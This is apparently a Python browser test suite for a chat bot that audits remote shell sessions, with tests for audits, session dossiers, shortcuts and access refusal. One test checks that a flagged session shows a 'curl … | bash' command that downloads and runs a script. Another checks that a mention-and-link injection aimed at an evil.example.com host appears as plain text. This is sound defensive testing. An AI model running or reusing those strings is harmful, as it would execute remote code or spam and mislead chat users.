"""The product as a newcomer meets it: the bot on the made-up night, in the browser."""

from __future__ import annotations

import re

import pytest

from bot.config import Settings
from bot.roof import evidence, house, local
from bot.roof.works import begun
from bot.workspace import cast
from tests.browser.conftest import Screen
from tests.conftest import NOW

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def installed():
    return local.app()


@pytest.fixture(scope="module")
def start_bot(night_archive, tmp_path_factory):
    """The bot itself, wired as `countersign run` wires it, on the night's archive and at the night's time."""
    folder = tmp_path_factory.mktemp("product")

    def start(workspace):
        settings = local.settled(Settings.from_env({}), workspace, folder)
        home = house.opened(settings, evidence=evidence.archived(night_archive.path), clock=lambda: NOW, directory=local.people().get)
        works = begun(settings, home, None)
        return [], works.ended

    return start


def test_a_first_minute(browser_page: Screen):
    """First visit, a command, its pages, a dossier, the transcript in the direct messages, a shared answer, another person."""
    page = browser_page.page
    assert "/ssm active" in page.get_by_role("region", name="Things to try").inner_text()
    browser_page.say("/ssm audit 7d")
    audit = browser_page.message("sessions opened, 9 denied")
    audit.wait_for()
    assert "Only visible to you" in audit.inner_text()
    browser_page.shot("product-audit")
    audit.get_by_role("button", name="Next", exact=True).click()
    audit.get_by_role("button", name="Previous").wait_for()
    audit.get_by_role("button", name="Send me the CSV").click()
    browser_page.message("The file is in your direct messages").wait_for()
    audit.get_by_role("button", name="Share to channel").click()
    shared = browser_page.message("Ask this myself")
    shared.wait_for()
    assert "Only visible to you" not in shared.inner_text()
    browser_page.be("Ben Okafor")
    browser_page.message("Ask this myself").get_by_role("button", name="Ask this myself").click()
    browser_page.message("Only visible to you").wait_for()
    browser_page.shot("product-shared")


def test_a_dossier_by_its_last_part(browser_page: Screen):
    """The last part of an id is enough; the commands that were typed stand there, flagged ones marked."""
    browser_page.say("/ssm session 749qsg")
    dossier = browser_page.message("A download is run at once")
    dossier.wait_for()
    assert "curl -fsSL http://198.51.100.50/k.sh | bash" in dossier.inner_text()
    browser_page.shot("product-dossier")
    dossier.get_by_role("button", name="Send me the TXT").click()
    browser_page.message("direct messages").wait_for()
    browser_page.page.get_by_role("button", name=re.compile("Countersign")).first.click()
    browser_page.page.get_by_text(re.compile(r"749qsg4r3l79dygtkns0dnjvcc\.txt")).first.wait_for()
    browser_page.shot("product-direct-message")


def test_the_form_of_the_shortcut(browser_page: Screen):
    """The global shortcut opens a form; what is typed there is answered in the direct messages."""
    page = browser_page.page
    page.get_by_role("button", name=re.compile("[Ss]hortcut")).first.click()
    page.get_by_text("Ask Countersign").first.click()
    dialog = page.get_by_role("dialog")
    dialog.wait_for()
    browser_page.shot("product-form")
    dialog.get_by_role("textbox").fill("active")
    dialog.get_by_role("button", name="Ask", exact=True).click()
    dialog.wait_for(state="detached")


@pytest.mark.parametrize("words", ["active", "risky 24h", "coverage 24h", "ports 7d", "help", "who bastion-prod-1"])
def test_every_answer_can_be_looked_at(browser_page: Screen, words: str):
    """Each is drawn whole, nothing marked as not implemented; the picture is kept."""
    browser_page.say(f"/ssm {words}")
    answer = browser_page.message("Share to channel")
    answer.wait_for()
    assert "not implemented" not in answer.inner_text()
    browser_page.shot("product-" + words.split()[0])


def test_a_hostile_reason_is_only_text(browser_page: Screen):
    """What a session's reason says neither mentions nor links."""
    browser_page.say("/ssm active")
    answer = browser_page.message("sessions open")
    answer.wait_for()
    assert "<!channel> see <https://evil.example.com|ticket>" in answer.inner_text()
    assert 0 == answer.get_by_role("link", name="ticket").count()


def test_a_guest_is_refused_with_a_sentence(browser_page: Screen):
    screen = browser_page.open(cast.GIL.id, "C0PLATFRM1")
    screen.say("/ssm active")
    refused = screen.message("not among the people who may ask")
    refused.wait_for()


def test_home_is_the_persons_own_view(browser_page: Screen):
    page = browser_page.page
    page.get_by_role("button", name=re.compile("Countersign")).first.click()
    page.get_by_role("tab", name="Home").click()
    page.get_by_text("sessions open and").first.wait_for()
    browser_page.shot("product-home")
